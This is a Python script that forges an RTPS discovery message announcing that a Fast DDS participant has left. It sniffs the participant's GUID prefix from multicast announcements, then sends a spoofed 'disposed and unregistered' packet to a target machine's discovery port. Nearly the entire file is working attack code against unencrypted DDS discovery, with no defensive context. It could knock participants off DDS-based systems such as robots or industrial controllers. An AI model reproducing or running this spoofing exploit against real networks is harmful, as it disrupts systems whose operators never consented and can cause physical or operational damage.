"""Sends a forged message that a participant leaves. Fast DDS does not encrypt these messages.

forged_leave.py NAME TARGET
    NAME       address of this machine; the message is in the name of its participant
    TARGET     address of the machine that gets the message"""

import socket
import struct
import sys

GROUP, ANNOUNCEMENTS, DISCOVERY = "239.255.0.1", 7400, 7410
READER, WRITER, PARTICIPANT = 0x000100C7, 0x000100C2, 0x000001C1
KEY_HASH, STATUS, GUID = 0x70, 0x71, 0x50


def participant(address):
    """Waits for an announcement of the participant at this address, and returns its GUID prefix."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver:
        receiver.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        receiver.bind((GROUP, ANNOUNCEMENTS))
        receiver.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(address))
        while True:
            packet, sender = receiver.recvfrom(65536)
            if sender[0] == address:
                return packet[8:20]


def leave(prefix):
    guid = prefix + struct.pack(">I", PARTICIPANT)
    end = struct.pack("<HH", 1, 0)
    quality = struct.pack("<HH", KEY_HASH, 16) + guid + struct.pack("<HH4B", STATUS, 4, 0, 0, 0, 3) + end  # disposed and unregistered
    key = bytes([0, 3, 0, 0]) + struct.pack("<HH", GUID, 16) + guid + end
    body = struct.pack("<HH", 0, 16) + struct.pack(">II", READER, WRITER) + struct.pack("<iI", 0, 100000) + quality + key
    return b"RTPS" + bytes([2, 3, 1, 15]) + prefix + struct.pack("<BBH", 0x15, 0x0B, len(body)) + body


name, target = sys.argv[1:]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.sendto(leave(participant(name)), (target, DISCOVERY))
